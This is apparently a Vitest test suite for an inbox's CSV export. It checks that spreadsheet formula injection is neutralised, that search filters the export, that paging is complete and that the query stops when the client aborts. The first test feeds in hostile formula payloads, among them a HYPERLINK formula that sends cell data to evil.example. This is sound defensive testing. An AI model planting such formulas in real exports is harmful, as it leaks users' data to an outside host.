import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type InboxUser, signInUser, submitMessage } from '#src/testing/inbox-people.ts';
import type { StubEngine } from '#src/testing/stub-engine.ts';
import { type TestApi, startTestApi } from '#src/testing/test-api.ts';

let api: TestApi<StubEngine>;
let layla: InboxUser;

beforeAll(async () => {
  api = await startTestApi({ RAKHIM_TRUSTED_PROXIES: '1' });
  layla = await signInUser(api);
});
afterEach(() => api.assertAtRest());
afterAll(() => api.close());

/** Reads a table as RFC 4180 describes it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, separator = '', quoted, plain = ''] of text
    .replace(/^\uFEFF/u, '')
    .matchAll(/(,|\r\n|^)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gu)) {
    if (separator === '\r\n') {
      rows.push([]);
    }
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
  }
  return rows.slice(0, -1);
}

describe('the inbox as CSV', () => {
  it('keeps every message whole, and computes nothing in a spreadsheet', async () => {
    const hostile = ['=HYPERLINK("http://evil.example?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1)', '＝1+1'];
    for (const words of hostile) {
      await submitMessage(api, {
        name: words,
        subject: `${words} subject`,
        message: `${words}\nwith "quotes", commas\nand lines of text`,
      });
    }
    const exports = async () =>
      (await api.db('audit_events').where({ action: 'inbox.exported', account_id: layla.id })).length;
    const before = await exports();
    const response = await layla.call('/export?folder=all');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="rakhim-inbox.csv"');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from('\u{FEFF}'));
    const [head, ...all] = readCsv(bytes.toString('utf8')) as [string[], ...string[][]];
    const rows = all.filter((row) => hostile.includes(row[head.indexOf('name')]?.slice(1) ?? ''));
    expect(head).toContain('message');
    expect(rows.map((row) => row[head.indexOf('name')])).toEqual(hostile.toReversed().map((words) => `'${words}`));
    expect(rows.map((row) => row[head.indexOf('message')])).toEqual(
      hostile.toReversed().map((words) => `'${words}\nwith "quotes", commas\nand lines of text`),
    );
    expect(all.flat().filter((cell) => /^[=+\-@＝]/u.test(cell))).toEqual([]);
    expect(await exports()).toBe(before + 1);
  });

  it('is narrowed as the list is', async () => {
    const id = await submitMessage(api, { subject: 'الوحيدة المطلوبة' });
    const { reference } = await layla.read(id);
    const rows = readCsv(await (await layla.call(`/export?search=${encodeURIComponent('وحيده')}`)).text());
    expect(rows.slice(1).map((row) => row[1])).toEqual([reference]);
    expect((await layla.call('/export?cursor=1')).status).toBe(400);
  });

  it('goes through all pages, and asks for no more once its reader has gone', async () => {
    await api.db.raw(
      `INSERT INTO contact_messages (id, reference, name, email, subject, message, language, is_spam, spam_score, spam_reasons, fingerprint, words_hash, search, created_at)
       SELECT gen_random_uuid(), 'ALL-' || n, 'n', 'e', 's', repeat('كلمة ', 900), 'ar', false, 0, '[]', '', '', '', now() - (n / 3) * interval '1 second' FROM generate_series(1, 2600) AS n`,
    );
    const rows = readCsv(await (await layla.call('/export')).text());
    const references = rows
      .slice(1)
      .map((row) => row[1] ?? '')
      .filter((reference) => reference.startsWith('ALL-'));
    expect(new Set(references).size).toBe(2600);
    expect(references).toHaveLength(2600);

    const leaving = new AbortController();
    const response = await api.call('/api/v1/admin/contact/export', {
      headers: { authorization: `Bearer ${layla.token}` },
      signal: leaving.signal,
    });
    await response.body?.getReader().read();
    leaving.abort();
    await expect
      .poll(
        async () =>
          (
            await api.db.raw<{ rows: unknown[] }>(
              "SELECT FROM pg_stat_activity WHERE datname = current_database() AND state = 'active' AND query LIKE '%contact_messages%' AND pid <> pg_backend_pid()",
            )
          ).rows.length,
      )
      .toBe(0);
    expect(api.logText()).not.toContain('request failed');
  });
});
